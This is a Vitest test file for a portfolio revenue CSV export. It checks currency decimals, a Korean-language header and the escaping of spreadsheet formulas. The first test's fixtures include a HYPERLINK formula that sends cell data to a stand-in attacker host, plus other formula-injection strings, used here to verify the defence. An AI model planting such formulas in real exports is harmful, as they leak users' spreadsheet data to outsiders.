import { beforeAll, describe, expect, it } from 'vitest';
import type { MyRevenueAndProducts, RevenueShare } from '../../../src/domain/portfolio';
import { revenueCsv } from '../../../src/features/portfolio/csv';
import { loadTexts, setLocale } from '../../../src/lib/i18n';

// The header row is the reader's: English here unless a test switches.
beforeAll(async () => {
  await loadTexts(['account']);
});

const share = (overrides: Partial<RevenueShare>): RevenueShare => ({
  id: 1,
  productId: 7,
  productName: 'Seoul Night Concert',
  amount: 2550,
  balance: 10,
  recordDate: '2026-11-01',
  paysAt: '2026-11-20T00:00:00.000Z',
  memo: null,
  state: 'PAID',
  entryId: null,
  ...overrides,
});

const revenue = (currency: string, shares: RevenueShare[]): MyRevenueAndProducts => ({
  currency,
  interval: 'month',
  revenues: [],
  products: [],
  shares,
  totals: {
    portfolioBalance: 0,
    paidAmount: 0,
    revenuePaid: 0,
    revenueScheduled: 0,
    marketValue: 0,
    costBasis: 0,
    gain: 0,
  },
});

describe('the revenue export', () => {
  it('writes memos and names a spreadsheet would evaluate as text', () => {
    const csv = revenueCsv(
      revenue('USD', [
        share({ memo: '=HYPERLINK("https://attacker.example/?"&A1,"Claim")' }),
        share({ productName: '@SUM(A1:A9)', memo: '+1 more' }),
        share({ memo: '-2+3' }),
      ]),
    );
    const lines = csv.split('\r\n');
    expect(lines[1]).toBe(
      `2026-11-20,Seoul Night Concert,10,25.50,PAID,"'=HYPERLINK(""https://attacker.example/?""&A1,""Claim"")"`,
    );
    expect(lines[2]).toBe(`2026-11-20,'@SUM(A1:A9),10,25.50,PAID,'+1 more`);
    expect(lines[3]).toBe(`2026-11-20,Seoul Night Concert,10,25.50,PAID,'-2+3`);
  });

  it('keeps amounts numeric, in the currency’s own decimals', () => {
    const csv = revenueCsv(revenue('KRW', [share({ amount: 2550 })]));
    expect(csv).toBe(
      'date,project,tokens at record date,amount (KRW),state,memo\r\n2026-11-20,Seoul Night Concert,10,2550,PAID,\r\n',
    );
  });

  it('writes its header in the reader’s language', async () => {
    await setLocale('ko');
    try {
      expect(revenueCsv(revenue('KRW', [])).split('\r\n')[0]).toBe(
        '날짜,프로젝트,기준일 보유 토큰,금액 (KRW),상태,메모',
      );
    } finally {
      await setLocale('en');
    }
  });
});
